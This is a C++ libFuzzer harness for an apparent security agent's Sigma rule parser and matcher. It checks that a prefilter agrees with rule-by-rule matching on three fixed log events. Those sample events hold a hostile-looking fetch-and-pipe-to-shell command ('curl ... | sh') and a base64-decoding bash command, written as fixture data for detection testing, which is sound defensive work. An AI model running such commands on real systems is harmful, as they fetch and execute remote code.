// libFuzzer: the Sigma parser (YAML text -> rules), and the matcher of whatever loads on fixed events, both
// rule by rule and through a SigmaRuleSet (log-source index + Hyperscan literal prefilter). The two must
// agree: the prefilter may only skip rules that cannot match (a difference aborts).
#include <cstddef>
#include <cstdint>
#include <cstdlib>
#include <string_view>
#include <vector>

#include "agent/host/sigma/sigma.h"

namespace {

const std::vector<picket::host::LogEvent>& events() {
  static const std::vector<picket::host::LogEvent> evs = [] {
    std::vector<picket::host::LogEvent> v(3);
    v[0].clear();
    v[0].set_raw("Nov 30 10:00:00 h sshd[1]: Failed password for root from 10.0.0.1 port 22 ssh2");
    v[0].set_product("linux");
    v[0].add_service("sshd");
    v[0].set("user", "root");
    v[0].set("src_ip", "10.0.0.1");
    v[0].set("CommandLine", "curl -d aGVsbG8= http://x | sh");
    v[1].clear();
    v[1].set_raw("1.2.3.4 - - [30/Nov/2026:10:00:00 +0000] \"GET /a?b=1 HTTP/1.1\" 200 1 \"-\" \"x\"");
    v[1].set_category("webserver");
    v[1].set("cs-uri-query", "/a?b=1");
    v[1].set("sc-status", "200");
    v[2].clear();
    v[2].set_raw("type=EXECVE msg=audit(1.0:1): argc=2 a0=\"bash\" a1=\"-c\"");
    v[2].set_product("linux");
    v[2].set_category("process_creation");
    v[2].set("Image", "/usr/bin/Bash");
    v[2].set("CommandLine", "bash -c 'echo SGVsbG8gd29ybGQ= | base64 -d'");
    v[2].set("ParentImage", "/usr/sbin/sshd");
    v[2].set("User", "root");
    return v;
  }();
  return evs;
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  if (size > 64 * 1024) return 0;
  std::string_view text(reinterpret_cast<const char*>(data), size);
  picket::host::SigmaParsed p = picket::host::parse_sigma(text, "fuzz.yml");
  if (p.rules.empty()) return 0;
  std::vector<std::vector<size_t>> expected(events().size());
  for (size_t e = 0; e < events().size(); ++e) {
    for (size_t i = 0; i < p.rules.size(); ++i) {
      if (p.rules[i].matches_logsource(events()[e]) && p.rules[i].matches(events()[e])) expected[e].push_back(i);
    }
  }
  const picket::host::SigmaRuleSet set(std::move(p.rules));
  for (size_t e = 0; e < events().size(); ++e) {
    std::vector<size_t> got;
    set.match(events()[e], [&](const picket::host::SigmaRule& r) {
      got.push_back(static_cast<size_t>(&r - set.rules().data()));
    });
    if (got != expected[e]) std::abort();  // the prefilter hid a match (or invented one)
  }
  return 0;
}
